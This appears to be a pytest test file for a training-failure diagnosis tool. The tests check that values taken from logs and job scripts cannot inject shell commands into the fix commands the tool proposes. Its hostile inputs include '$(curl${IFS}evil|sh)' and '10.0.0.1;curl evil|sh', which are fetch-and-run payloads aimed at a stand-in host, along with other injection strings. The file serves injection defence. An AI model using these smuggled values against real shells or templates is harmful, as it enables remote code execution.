"""What a log says never runs as a command of its own when a proposed command is pasted into a shell."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from assistant.diagnosis.diagnose import diagnose, placeholders
from assistant.diagnosis.template import fill_command
from assistant.facts import CaseFile
from assistant.triage import triage_paths
from knowledge.check import full_base
from knowledge.load import knowledge

FULL, _ = full_base()
FALLBACKS: dict[str, str] = {name: entry["fallback"] for name, entry in FULL["placeholders"].items()}
HOSTILE = [
    "10.0.0.1;curl evil|sh", "$(id)", "`id`", "a\nid", "a\n", "a && id", "a>b", "a b", "a'b", 'a"b', "a\\b", "a#b", "*", "${IFS}",
    "a!b", "(a)", "a\r", "", "a\x00b",
]  # fmt: skip
PLAIN = [
    "gpu-01.example.org",
    "10.0.0.1",
    "fe80::1%eth0",
    "-x",
    "/home/me/run_1/train.py",
    "mlx5_0:1,^mlx5_1",
    "~/a=b+c@d",
]


def templates() -> list[str]:
    found: list[str] = []
    for cause in FULL["causes"].values():
        found += [c["command"] for c in cause["confirm"] if c.get("command")]
        for fix in cause["fixes"]:
            found += [*fix.get("commands", ()), *fix["steps"], fix["verify"], fix["risk"], fix["undo"]]
    return found


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_give_way_to_the_fallback(value: str) -> None:
    expected: dict[str, Any] = dict(FALLBACKS)
    hostile = dict.fromkeys(FALLBACKS, value)
    commands = templates()
    assert len(commands) > 100 and sum("{" in c for c in commands) > 40
    for command in commands:
        assert fill_command(command, hostile, FALLBACKS) == fill_command(command, expected, FALLBACKS)


LOG = """\
gpu-01:100:100 [0] NCCL INFO NCCL_SOCKET_IFNAME set by environment to docker0;EVIL
gpu-01:100:100 [0] NCCL INFO Bootstrap: Using docker0;EVIL:172.17.0.2<0>
[rank0]: torch.distributed.DistNetworkError: The client socket has failed to connect to any network address of (EVIL, 29500). The client socket has timed out after 60s while trying to connect to (EVIL, 29500).
"""
SCRIPT = """\
#!/bin/bash
export MASTER_ADDR='EVIL'
export NCCL_SOCKET_IFNAME='docker0;EVIL'
torchrun --nnodes=2 --nproc_per_node=8 --master_addr='EVIL' --master_port=29500 'train.py;EVIL'
"""


def test_a_diagnosis_holds_no_hostile_command(tmp_path: Path) -> None:
    """The whole way from files to what is proposed."""
    for name, text in (("run.log", LOG), ("job.sh", SCRIPT)):
        (tmp_path / name).write_text(text.replace("EVIL", "$(curl${IFS}evil|sh)"))
    base = knowledge()
    found = diagnose(triage_paths(base, [str(tmp_path)]), base)
    proposed: list[str] = []
    for finding in found.findings:
        proposed += [str(c.get("command")) for c in finding.confirm]
        for fix in finding.fixes:
            proposed += [*fix.commands, *fix.steps, fix.verify, fix.risk, fix.undo]
    assert len(proposed) > 10 and not [text for text in proposed if "evil" in text]


@pytest.mark.parametrize("value", PLAIN)
def test_plain_values_stay(value: str) -> None:
    assert fill_command("ping {host}", {"host": value}, FALLBACKS) == f"ping {value}"


def test_names_without_a_value() -> None:
    assert fill_command("ping {host} {x} ${host}", {}, {}) == "ping <...> <...> ${host}"
    assert fill_command("ping {host}", {"host": "a b"}, {}) == "ping <...>"
    names = placeholders(CaseFile(), knowledge())
    assert fill_command("ping {master_addr}", names, FALLBACKS) == "ping <address of the first node>"
